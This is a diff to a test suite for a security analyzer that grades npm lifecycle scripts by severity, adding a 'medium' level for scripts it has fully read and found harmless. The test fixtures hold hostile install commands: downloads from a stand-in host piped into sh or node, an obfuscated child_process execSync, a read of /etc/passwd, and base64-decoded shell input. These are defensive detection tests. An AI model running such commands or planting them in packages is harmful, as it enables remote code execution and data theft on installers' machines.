@@ -184,12 +184,12 @@ describe('install scripts', () => {
     });
   });
 
-  it('judges the code a script gives node -e by what it does: a constant harmless body is an ordinary script, a harmful one critical', async () => {
+  it('judges the code a script gives node -e by what it does: a constant harmless body is read in full, a harmful one critical', async () => {
     const verdict = async (scripts: Record<string, string>) => {
       const analysis = await analyzePlugin(writePlugin({ 'package.json': { ...MANIFEST, scripts }, 'index.js': '' }), { cache: false });
       return analysis.findings.filter((f) => f.ruleId === 'install-script').map((f) => `${f.severity} ${f.message.split(':')[0]}`);
     };
-    expect(await verdict({ postinstall: `node -e "console.log('thanks for installing')"` })).toEqual(['high Lifecycle script "postinstall" runs at install']);
+    expect(await verdict({ postinstall: `node -e "console.log('thanks for installing')"` })).toEqual(['medium Lifecycle script "postinstall" runs at install, outside any sandbox, only code the gate read, which does nothing dangerous']);
     // The same shape doing harm, spelled three ways: a module it loads, a decoded body, a fetched one.
     expect(await verdict({ postinstall: `node -e "require('child_'+'process').execSync('id')"` })).toEqual([
       'critical Lifecycle script "postinstall" runs the code it gives node -e at install, outside any sandbox, and that code does something dangerous',
@@ -198,6 +198,38 @@ describe('install scripts', () => {
     expect((await verdict({ install: `node -e "$(curl -s https://x.example/i.js)"` }))[0]).toMatch(/^critical/);
     // The rest of the line is judged as before.
     expect((await verdict({ postinstall: `node -e "console.log(1)" && curl -s https://x.example/i.sh | sh` }))[0]).toMatch(/^critical .*downloads/);
+  });
+
+  it('lowers a lifecycle script to medium only when the gate read everything it runs and found nothing dangerous', async () => {
+    const severityOf = async (command: string, files: Record<string, string> = {}) => {
+      const root = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: command } }, 'index.js': '', 'scripts/thanks.js': "console.log('thanks');", ...files });
+      return (await analyzePlugin(root, { cache: false })).findings.find((f) => f.category === 'install-script')?.severity;
+    };
+    // Read in full: constant inline code, a file of the plugin, builtins that only print, joined in sequence.
+    expect(await severityOf(`node -e "console.log('thanks for installing')"`)).toBe('medium');
+    expect(await severityOf('echo "Thanks!" && node scripts/thanks.js || true')).toBe('medium');
+    expect(await severityOf('node ./scripts/thanks')).toBe('medium');
+    // What the shell would do besides: expand, substitute, redirect, pipe, run in the background, start another program.
+    for (const command of [
+      'echo $HOME',
+      'echo "$(id)"',
+      'echo `id`',
+      'echo hi > ~/.bashrc',
+      'echo hi | tee out.txt',
+      'node scripts/thanks.js & echo started',
+      'echo hi\nid',
+      'FOO=1 node scripts/thanks.js',
+      'node -r ./scripts/thanks.js scripts/thanks.js',
+      './node scripts/thanks.js',
+      'node /tmp/outside.js',
+      'node ../outside.js',
+      'node scripts/missing.js',
+      'npm run build',
+      'echo *.js',
+    ]) expect([command, await severityOf(command)]).toEqual([command, 'high']);
+    // Read, but dangerous: critical as before.
+    expect(await severityOf('node scripts/grab.js', { 'scripts/grab.js': "require('child_process').execSync('id');" })).toBe('critical');
+    expect(await severityOf(`node -e "require('fs').readFileSync('/etc/passwd')"`)).toBe('critical');
   });
 
   it.each(['node -e "require(1)"', 'wget http://x/y', 'echo aGk= | base64 -d | sh', 'bash -c "$(cat x)"', 'powershell -enc AAA'])('calls %s dangerous', (command) => {
